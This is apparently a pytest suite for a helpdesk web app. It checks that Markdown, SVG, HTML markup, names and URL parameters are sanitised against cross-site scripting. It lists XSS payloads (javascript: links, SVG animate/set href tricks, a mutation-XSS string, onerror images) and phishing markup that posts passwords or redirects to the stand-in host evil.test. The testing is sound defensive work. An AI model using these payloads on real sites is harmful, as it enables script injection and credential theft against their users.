"""Texts that want to run in the reader's browser are read as texts."""

import re
from html.parser import HTMLParser
from urllib.parse import quote

import nh3
import pytest

from helpdesk.accounts.services import people, skills, teams
from helpdesk.accounts.services.customers import requester_for
from helpdesk.web.markdown import to_html
from tests.house.addresses import addresses
from tests.people import api_client
from tickets.models import Topic
from tickets.services.conversation import note, receive
from tickets.services.tagging import tag
from tickets.services.topics import save_topic

CANARY = "<img src=x onerror=CANARY>"
LINKS = [
    "[XSS](javascript:alert(`x`))",
    "[Bypass\n\nMultiline]( javascript:alert(`1`))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
]
DRAWINGS = [
    '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"></set></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="30">x</text></a></svg>',
    '<math><mtext></table><mglyph><style><img src=x onerror="alert(1)">',
]
COSTUMES = [
    "<style>*{display:none}</style>",
    '<div class="dialog" style="position:fixed;inset:0">Sign in again</div>',
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input type=password></form>",
    '<a href="https://evil.test" target=_top id=csrf class=button>x</a>',
]
REFLECTED = ['"><script>CANARY</script>', "'-alert(1)-'", "javascript:alert(1)", '" onmouseover="CANARY']


class Elements(HTMLParser):
    """Collects every element of a page with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def dangers(html):
    """Return what could run, restyle or lead away in a page of ours."""
    return [
        (tag, attributes)
        for tag, attributes in Elements(html).found
        if any(name.startswith("on") for name in attributes)
        or (tag in {"img", "script"} and not attributes.get("src", "/").startswith(("/", "data:image/")))
        or re.match(r"\s*(javascript|data|vbscript):", attributes.get("href", ""), re.IGNORECASE)
        or (tag == "script" and "src" not in attributes and attributes.get("type") != "application/json")
        or tag in {"style", "base", "iframe", "object", "embed", "set", "animate", "math"}
    ]


@pytest.mark.parametrize("text", LINKS)
def test_a_link_that_would_run_is_no_link(client, cast, ticket, text):
    """X07: in a customer's message, a note, and whatever else is written in Markdown."""
    receive(ticket, text, requester=ticket.requester)
    note(ticket, text, author=cast.l1)
    client.force_login(cast.l1)
    assert dangers(client.get(ticket.url).content.decode()) == []


@pytest.mark.parametrize("text", DRAWINGS)
def test_no_drawing_survives_the_sanitiser(text):
    """X09: neither through Markdown nor past the parser."""
    assert dangers(to_html(text)) == []
    assert [
        tag for tag, _attributes in Elements(nh3.clean(text)).found if tag in {"svg", "set", "animate"}
    ] == []


@pytest.mark.parametrize("text", COSTUMES)
def test_no_text_dresses_up_as_the_desk(client, cast, ticket, text):
    """X13: no style, form, base or refresh; a link says that it opens nothing of ours."""
    html = to_html(text)
    assert {tag for tag, _attributes in Elements(html).found} <= {"p", "a", "br"}
    for name, attributes in Elements(html).found:
        assert name != "a" or (
            "noopener" in attributes["rel"] and not {"id", "class", "target"} & attributes.keys()
        )
    receive(ticket, text, requester=ticket.requester)
    client.force_login(cast.l1)
    page = client.get(ticket.url).content.decode()
    assert "//evil.test" not in {attributes.get("action") for _tag, attributes in Elements(page).found}
    assert dangers(page) == []


def test_no_name_or_word_runs_in_an_administrators_browser(client, cast, ticket):
    """X11: names of people, teams, skills, topics and customers, tags and subjects."""
    people.change(cast.l1, name=CANARY)
    teams.change(cast.second_line, name=CANARY)
    skills.create(slug="canary", name=CANARY)
    save_topic(Topic(slug="canary"), actor=cast.admin, name=CANARY)
    requester_for("canary@shop.test", name=CANARY)
    tag(ticket, add=[CANARY], actor=cast.l1)
    api_client(cast.l1).patch(f"/api/v1/tickets/{ticket.key}/", {"subject": CANARY})
    client.force_login(cast.admin)
    seen = 0
    for address in addresses():
        path = address.path.replace("/HD-1", f"/{ticket.key}")
        answer = client.get(path)
        if (
            answer.status_code == 200
            and answer.headers["Content-Type"].startswith("text/html")
            and not answer.streaming
        ):
            seen += 1
            assert (path, dangers(answer.content.decode())) == (path, [])
    assert seen > 10


@pytest.mark.parametrize("text", REFLECTED)
def test_no_parameter_comes_back_alive(client, cast, ticket, text):
    """X17: every page, every parameter that one of them reads."""
    client.force_login(cast.admin)
    names = (
        "q",
        "next",
        "sort",
        "tab",
        "period",
        "page",
        "ordering",
        "cursor",
        "status",
        "view",
        "team",
        "level",
        "text",
    )
    question = "&".join(f"{name}={quote(text)}" for name in names)
    for address in addresses():
        answer = client.get(f"{address.path.replace('/HD-1', '/' + ticket.key)}?{question}")
        assert answer.status_code < 500 or address.path.startswith("/health/")
        if answer.headers.get("Content-Type", "").startswith("text/html") and not answer.streaming:
            assert (address.path, dangers(answer.content.decode())) == (address.path, [])
